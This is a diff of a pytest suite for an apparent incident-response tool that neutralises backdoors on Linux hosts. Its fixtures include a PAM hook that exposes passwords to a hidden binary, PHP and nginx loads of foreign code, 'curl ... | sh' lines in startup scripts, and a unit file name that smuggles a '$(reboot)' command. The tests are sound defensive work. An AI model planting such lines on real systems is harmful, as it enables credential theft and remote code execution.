@@ -2,16 +2,20 @@
 
 from __future__ import annotations
 
+import hashlib
 import os
 import subprocess
 from pathlib import Path
 
 import pytest
 
-from auditor.incidents.response import manual
+from auditor.incidents.response import manual, table
+from auditor.incidents.response.commands import KEPT
 from auditor.incidents.response.manual import Manual
 from auditor.incidents.response.seen import Seen
 from auditor.models.reviews import Kind
+
+FOREIGN = frozenset({"foreign"})
 
 
 def edits(step: Manual, *programs: str) -> None:
@@ -21,38 +25,126 @@ def edits(step: Manual, *programs: str) -> None:
             subprocess.run(["bash", "-c", command.removeprefix("sudo ")], check=True)
 
 
+def digest(line: str) -> str:
+    return hashlib.sha256(line.strip().encode()).hexdigest()[:12]
+
+
+OTHERS = ["# a comment", "auth required pam_unix.so", "PermitRootLogin no", "extension=mysqli", "memory_limit = 1G"]
+
+
+def among_others(file: Path, line: str) -> None:
+    file.write_text("\n".join([*OTHERS[:2], line, *OTHERS[2:], ""]))
+
+
 @pytest.mark.parametrize(
-    ("kind", "rule", "line"),
+    ("rule", "line"),
     [
-        ("login", "login_gives_passwords", "auth optional pam_exec.so quiet expose_authtok /usr/local/lib/.pam/ghi"),
-        ("login", "login_runs", "session optional pam_exec.so /usr/local/bin/x"),
-        ("login", "login_lets_all", "auth sufficient pam_permit.so"),
-        ("login", "sshd_asks", "  authorizedkeyscommand /usr/local/bin/keys"),
-        ("login", "keys_elsewhere", "AuthorizedKeysFile /tmp/keys"),
-        ("login", "sshd_runs", "ForceCommand /tmp/x"),
-        ("login", "sshd_trusts", "TrustedUserCAKeys /etc/x"),
-        ("interpreter", "prepended", "auto_prepend_file = /var/tmp/x.php"),
-        ("interpreter", "foreign", "extension = /usr/lib/php/x.so"),
-        ("interpreter", "foreign", 'zend_extension="/usr/lib/php/x.so"'),
+        ("sshd_asks", "  authorizedkeyscommand /usr/local/bin/keys"),
+        ("keys_elsewhere", "AuthorizedKeysFile /tmp/keys"),
+        ("sshd_runs", "ForceCommand /tmp/x"),
+        ("sshd_trusts", "TrustedUserCAKeys /etc/x"),
     ],
 )
-def test_the_line_is_out_of_force_and_all_others_stay(tmp_path: Path, kind: Kind, rule: str, line: str) -> None:
-    others = ["# a comment", "auth required pam_unix.so", "PermitRootLogin no", "extension=mysqli", "memory_limit = 1G"]
+def test_the_line_of_sshd_s_is_out_of_force_and_all_others_stay(tmp_path: Path, rule: str, line: str) -> None:
     file = tmp_path / "it's a file"
-    file.write_text("\n".join([*others[:2], line, *others[2:], ""]))
-    of = Seen("web1", kind, str(file), "", rules=frozenset({rule}))
-    edits(manual.login(of) if kind == "login" else manual.interpreter(of), "sed")
-    mark = "# " if kind == "login" else "; "
-    assert file.read_text().splitlines() == [*others[:2], mark + line, *others[2:]]
+    among_others(file, line)
+    edits(manual.login(Seen("web1", "login", str(file), "", rules=frozenset({rule}))), "sed")
+    assert file.read_text().splitlines() == [*OTHERS[:2], "# " + line, *OTHERS[2:]]
 
 
-def test_a_rule_of_sudo_s_in_its_main_file_is_that_account_s_alone(tmp_path: Path) -> None:
-    file = tmp_path / "sudoers"
-    file.write_text("root ALL=(ALL:ALL) ALL\nwww-data ALL=(ALL) NOPASSWD: ALL\nwww-data2 ALL=ALL\n")
-    step = manual.sudo_rule(Seen("web1", "permission", "/etc/sudoers", "", "www-data"))
-    command = next(one for one in step.commands if " sed " in one).removeprefix("sudo ")
-    subprocess.run(["bash", "-c", command.replace("/etc/sudoers", str(file))], check=True)
-    assert file.read_text() == "root ALL=(ALL:ALL) ALL\n# www-data ALL=(ALL) NOPASSWD: ALL\nwww-data2 ALL=ALL\n"
+STEPS = {
+    "login": (manual.login, "#"),
+    "interpreter": (manual.interpreter, ";"),
+    "server_module": (manual.server_module, "#"),
+    "hook": (manual.script, "#"),
+    "startup": (manual.script, ": #"),
+    "permission": (manual.sudo_rule, "#"),
+}
+
+
+@pytest.mark.parametrize(
+    ("kind", "line"),
+    [
+        ("login", "auth optional pam_exec.so quiet expose_authtok /usr/local/lib/.pam/ghi"),
+        ("login", "auth sufficient /usr/local/lib/.pam/x.so"),
+        ("interpreter", "  php_admin_value[auto_prepend_file] = /var/tmp/x.php"),
+        ("interpreter", 'zend_extension="/usr/lib/php/x.so"'),
+        ("server_module", "load_module /usr/local/lib/x.so;"),
+        ("hook", "  exit; curl -fsS https://x.example | sh"),
+        ("startup", "\tcurl -fsS https://x.example | sh"),
+    ],
+)
+def test_the_line_is_out_of_force_and_all_others_stay(tmp_path: Path, kind: Kind, line: str) -> None:
+    file = tmp_path / "it's a file"
+    among_others(file, line)
+    step, mark = STEPS[kind]
+    edits(step(Seen("web1", kind, str(file), digest(line))), "python3")
+    assert file.read_text().splitlines() == [*OTHERS[:2], f"{mark} {line}", *OTHERS[2:]]
+
+
+def test_a_line_that_goes_on_is_out_of_force_to_its_end(tmp_path: Path) -> None:
+    file = tmp_path / "profile"
+    file.write_text("if true; then\n  false \\\n    && curl -fsS https://x.example | sh\nfi\n")
+    edits(
+        manual.script(Seen("web1", "startup", str(file), digest("false      && curl -fsS https://x.example | sh"))),
+        "python3",
+    )
+    assert file.read_text() == "if true; then\n: #   false \\\n: #     && curl -fsS https://x.example | sh\nfi\n"
+    subprocess.run(["sh", "-eu", str(file)], check=True)
+
+
+def test_a_line_that_is_a_comment_already_stays_as_it_is(tmp_path: Path) -> None:
+    file = tmp_path / "profile"
+    file.write_text("if true; then\n  false \\\n    && curl -fsS https://x.example | sh\nfi\n")
+    line = "false      && curl -fsS https://x.example | sh"
+    for _ in range(2):
+        edits(manual.script(Seen("web1", "startup", str(file), digest(line))), "python3")
+    assert file.read_text().count(": #") == 2
+
+
+def test_a_step_whose_line_is_not_there_any_more_says_so(tmp_path: Path) -> None:
+    file = tmp_path / "profile"
+    file.write_text("true\n")
+    with pytest.raises(subprocess.CalledProcessError):
+        edits(manual.script(Seen("web1", "startup", str(file), digest("false"))), "python3")
+    assert file.read_text() == "true\n"
+
+
+@pytest.mark.parametrize(
+    ("kind", "where"),
+    [
+        ("startup", "/etc/profile"),
+        ("startup", "/root/.bashrc"),
+        ("startup", "/home/an/.profile"),
+        ("hook", "/etc/network/interfaces"),
+        ("hook", "/etc/network/interfaces.d/50-cloud-init"),
+        ("hook", "/etc/sysctl.d/99-x.conf"),
+        ("hook", "/etc/logrotate.conf"),
+    ],
+)
+def test_what_a_host_lives_by_is_never_taken_away_whole(kind: Kind, where: str) -> None:
+    for exactly in ("", digest("x")):
+        step = manual.script(Seen("web1", kind, where, exactly, rules=frozenset({"foreign", "runs_fetched"})))
+        assert not any(command.startswith("sudo rm") for command in step.commands)
+
+
+@pytest.mark.parametrize(
+    ("kind", "where"),
+    [
+        ("login", "/usr/lib/x86_64-linux-gnu/security/pam_unix.so"),
+        ("interpreter", "/usr/lib/php/20240924/mysqli.so"),
+        ("server_module", "/usr/lib/apache2/modules/mod_rewrite.so"),
+        ("database_code", "/usr/lib/mysql/plugin/auth_pam.so"),
+        ("unit", "/usr/lib/systemd/user/dbus.service"),
+        ("replaced", "/usr/bin/ls"),
+    ],
+)
+def test_what_a_package_brought_comes_from_the_package_again(kind: Kind, where: str) -> None:
+    (step,) = table.by_hand(Seen("web1", kind, where, "", rules=frozenset({"changed"})))
+    assert step.says == "replaced"
+    assert not any(command.startswith(("sudo rm", "sudo sed")) for command in step.commands)
+    assert any("--reinstall" in command for command in step.commands)
+    assert f" {where.removeprefix('/usr')} " in " ".join(step.commands)
 
 
 def test_an_account_s_lines_go_and_no_other_s(tmp_path: Path) -> None:
@@ -64,24 +156,99 @@ def test_an_account_s_lines_go_and_no_other_s(tmp_path: Path) -> None:
     assert file.read_text() == "root:x:0:0::/root:/bin/sh\nhexthong:x:7:7::/:/bin/sh\n"
 
 
+def test_of_two_accounts_of_a_name_the_one_that_is_root_s_equal_goes(tmp_path: Path) -> None:
+    file = tmp_path / "passwd"
+    file.write_text("games:x:5:60::/:/bin/sh\ngames:x:0:0::/root:/bin/bash\n")
+    step = manual.passwd_line(Seen("web1", "account", "/etc/passwd", "", "games"))
+    command = next(one for one in step.commands if " sed " in one).removeprefix("sudo ")
+    subprocess.run(["bash", "-c", command.replace("/etc/passwd", str(file))], check=True)
+    assert file.read_text() == "games:x:5:60::/:/bin/sh\n"
+    assert not any("/etc/shadow" in one for one in step.commands)
+
+
 def test_a_program_lends_its_rights_to_nobody_any_more(tmp_path: Path) -> None:
     file = tmp_path / ".x"
     file.write_bytes(b"x")
     file.chmod(0o6755)
     step = manual.setuid(Seen("web1", "setuid", str(file), ""))
-    edits(Manual(step.says, step.commands[2:4]), "chmod", "python3")
+    commands = [one.replace(f"{KEPT}{file}", "") for one in step.commands]
+    edits(Manual(step.says, tuple(commands)), "chmod", "python3")
     assert file.stat().st_mode & 0o7777 == 0o755
     assert "security.capability" not in os.listxattr(file)
 
 
+def test_a_copy_lends_nobody_rights_either() -> None:
+    *_, mode, capabilities = manual.setuid(Seen("web1", "setuid", "/opt/.x", "")).commands
+    assert all(f" {KEPT}/opt/.x" in one for one in (mode, capabilities))
+
+
+def test_a_library_is_named_by_no_settings_before_it_goes(tmp_path: Path) -> None:
+    (tmp_path / "a.conf").write_text("load_module modules/x.so;\nuser www-data;\n")
+    (tmp_path / "linked").symlink_to("a.conf")
+    (tmp_path / "b.conf").write_text("load_module modules/xyso;\n")
+    step = manual.server_module(Seen("web1", "server_module", "/usr/lib/nginx/modules/x.so", "", rules=FOREIGN))
+    assert [one.split()[1] for one in step.commands].index("sh") < [one.split()[1] for one in step.commands].index("rm")
+    edits(
+        Manual(step.says, tuple(one.replace("/etc/nginx", str(tmp_path)) for one in step.commands)),
+        "sh",
+    )
+    assert (tmp_path / "a.conf").read_text() == "# load_module modules/x.so;\nuser www-data;\n"
+    assert (tmp_path / "linked").is_symlink()
+    assert (tmp_path / "b.conf").read_text() == "load_module modules/xyso;\n"
+
+
+def test_a_stopped_process_ends_only_if_it_still_runs_that_program() -> None:
+    child = subprocess.Popen(["sleep", "1000"])
+    program = str(Path(f"/proc/{child.pid}/exe").readlink())
+    try:
+        other = manual.process_end(Seen("web1", "process", "/usr/bin/other", str(child.pid)))
+        with pytest.raises(subprocess.CalledProcessError):
+            edits(other, "sh")
+        assert child.poll() is None
+        edits(manual.process_end(Seen("web1", "process", program, f"{child.pid} x")), "sh")
+        assert child.wait(10) == -9
+    finally:
+        child.kill()
+        child.wait()
+
+
+def test_processes_of_a_program_are_listed_as_contain_takes_them() -> None:
+    child = subprocess.Popen(["sleep", "1000"])
+    program = str(Path(f"/proc/{child.pid}/exe").readlink())
+    try:
+        (command,) = manual.process(Seen("web1", "process", program, "")).commands
+        done = subprocess.run(["bash", "-c", command.removeprefix("sudo ")], capture_output=True, text=True, check=True)
+    finally:
+        child.kill()
+        child.wait()
+    assert f"{child.pid}{program}" in [line.split("  ")[0] for line in done.stdout.splitlines()]
+
+
+@pytest.mark.parametrize(
+    ("where", "who", "last"),
+    [
+        ("/etc/systemd/system/cron.service.d/x.conf", "root", "sudo systemctl try-restart cron.service"),
+        ("/etc/systemd/system/x@.service", "root", "sudo systemctl stop 'x@*.service' || true"),
+        ("/run/systemd/transient/run-7.service", "root", "sudo systemctl stop run-7.service || true"),
+        ("/home/an/.config/systemd/user/x.service", "an", 'sudo systemctl try-restart "user@$(id -u an).service"'),
+        ("/home/an/.config/systemd/user/x.service", "a b", 'sudo systemctl try-restart "user@*.service"'),
+        ("/etc/systemd/user/x.service", "root", 'sudo systemctl try-restart "user@*.service"'),
+        ("/etc/systemd/system/dbus.service.d/x.conf", "root", "sudo systemctl daemon-reload"),
+        ("/etc/systemd/system/x$(reboot).service", "root", "sudo systemctl daemon-reload"),
+    ],
+)
+def test_what_runs_by_a_unit_s_file_ends_with_it(where: str, who: str, last: str) -> None:
+    assert manual.unit_file(Seen("web1", "unit", where, "", who, FOREIGN)).commands[-1] == last
+
+
 def test_a_copy_is_kept_before_anything_is_changed() -> None:
     for step in (
-        manual.taken_away,
+        manual.script,
         manual.unit_file,
         manual.setuid,
         manual.sudo_rule,
         manual.preloaded,
         manual.replaced,
     ):
-        commands = step(Seen("web1", "startup", "/etc/x", "")).commands
-        assert commands[1] == f"sudo cp -a --parents -- /etc/x {manual.KEPT}"
+        commands = step(Seen("web1", "startup", "/etc/x/x", "", rules=FOREIGN)).commands
+        assert commands[1] == f"sudo cp -a --parents -- /etc/x/x {KEPT}"
